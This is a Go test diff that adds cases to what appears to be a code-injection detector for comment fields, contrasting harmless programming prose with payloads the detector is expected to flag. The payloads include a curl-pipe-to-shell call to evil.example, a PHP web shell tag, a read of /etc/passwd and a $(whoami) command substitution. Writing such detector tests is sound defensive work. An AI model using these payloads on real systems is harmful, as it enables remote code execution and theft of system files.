@@ -77,3 +77,21 @@ func TestPastedSQL(t *testing.T) {
 		{"breakout before", body("comment", "x' ; SELECT name FROM users WHERE id = 1;"), "*", "*"},
 	})
 }
+
+func TestCodeInProse(t *testing.T) {
+	runPL2Cases(t, []pl2Case{
+		// prose that names code
+		{"python tip", body("comment", `Python tip: use subprocess.run(["ls", "-l"]) rather than os.system; it avoids the shell.`), "", ""},
+		{"ruby system", body("comment", `Ruby's system("ls", "-l") with separate arguments doesn't go through the shell either.`), "", ""},
+		{"java runtime", body("comment", "The old code used Runtime.getRuntime().exec(cmd); we replaced it with ProcessBuilder."), "", ""},
+		{"node require", body("comment", "Our sandbox blocks require('child_process'), so use the fetch API for HTTP calls."), "", ""},
+		// payloads: code only, words only inside strings, or open tags
+		{"python payload", body("comment", `__import__('os').system('id')`), "*", "*"},
+		{"words in strings", body("comment", `__import__('os').system('echo you are so very hacked now friend')`), "*", "*"},
+		{"php call", body("comment", `system("cat /etc/passwd");`), "*", "*"},
+		{"node payload", body("comment", `require('child_process').exec('curl evil.example | sh')`), "*", "*"},
+		{"java payload", body("comment", `java.lang.Runtime.getRuntime().exec("id")`), "*", "*"},
+		{"open tag in prose", body("comment", "please have a look at this nice <?php system($_GET['c']); ?> thank you"), "*", "*"},
+		{"subst in prose", body("comment", "nice post, thanks for sharing it with us $(whoami) really"), "*", "*"},
+	})
+}
